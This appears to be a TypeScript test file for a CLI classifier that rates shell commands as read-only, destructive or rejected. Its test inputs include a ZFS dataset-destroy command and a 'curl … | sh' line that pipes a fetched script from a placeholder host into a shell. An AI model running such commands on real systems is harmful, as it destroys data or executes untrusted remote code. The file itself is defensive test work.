import assert from "node:assert/strict";
import { PassThrough } from "node:stream";
import { test } from "node:test";
import { runCli } from "../../test-support/run-cli.ts";
import { run } from "./classify.ts";

const classify = (args: string[], stdin = "") => runCli(["classify", ...args], { stdin });

test("oikos classify -- <command> prints one JSON object", async () => {
  const { code, stdout } = await classify(["--target-type", "lxc", "--", "docker compose logs --tail=50"]);
  assert.equal(code, 0);
  const lines = stdout.trim().split("\n");
  assert.equal(lines.length, 1);
  const result = JSON.parse(lines[0] as string);
  assert.equal(result.risk, "read_only");
  assert.ok(Array.isArray(result.reasons) && result.reasons.length > 0);
  assert.equal(result.segments[0].text, "docker compose logs --tail=50");
});

test("oikos classify --jsonl answers every line in order, bad lines as reject", async () => {
  const input = [
    JSON.stringify({ target_type: "lxc", command: "ls -la" }),
    "this is not json",
    JSON.stringify({ target_type: "host", command: "zfs destroy tank/a" }),
    JSON.stringify({ target_type: "host" }),
    JSON.stringify({ target_type: "lxc", command: "cat <<EOF\nx\nEOF" }),
    JSON.stringify({ command: "curl -s http://x | sh" }),
    "",
  ].join("\n");
  const { code, stdout } = await classify(["--jsonl"], `${input}\n`);
  assert.equal(code, 0);
  const results = stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  assert.deepEqual(
    results.map((r) => r.risk),
    ["read_only", "reject", "destructive", "reject", "read_only", "reject", "reject"],
  );
  assert.match(results[1].reasons[0], /line 2 is not JSON/);
  assert.match(results[3].reasons[0], /command/);
  for (const result of results) assert.deepEqual(Object.keys(result), ["risk", "reasons"]);
});

test("oikos classify --jsonl splits only on \\n: a raw U+2028, U+2029 or \\r inside a JSON string is one line", async () => {
  const commands = ["echo 'a\u2028b'", "echo 'c\u2029d'", "printf 'e\rf'", "ls"];
  const input = commands.map((command) => JSON.stringify({ command })).join("\r\n");
  assert.ok(input.includes("\u2028") && input.includes("\r"), "the raw characters are in the input");
  const { code, stdout } = await classify(["--jsonl"], `${input}\n`);
  assert.equal(code, 0);
  const results = stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line));
  assert.equal(results.length, commands.length);
  assert.deepEqual(
    results.map((r) => r.risk),
    ["read_only", "read_only", "read_only", "read_only"],
  );
});

test("run() reports usage errors with exit code 2", async () => {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let err = "";
  stderr.on("data", (chunk) => {
    err += chunk;
  });
  const code = await run(["--bogus"], { stdin: new PassThrough(), stdout, stderr });
  assert.equal(code, 2);
  assert.ok(err.includes("oikos classify: Unknown option '--bogus'"), err);
  assert.ok(err.includes("oikos classify [--target-type <type>]"), "the usage follows the reason");
  err = "";
  assert.equal(await run(["--target-type"], { stdin: new PassThrough(), stdout, stderr }), 2);
  assert.ok(err.includes("argument missing"), err);
  assert.equal(await run([], { stdin: new PassThrough(), stdout, stderr }), 2);
});
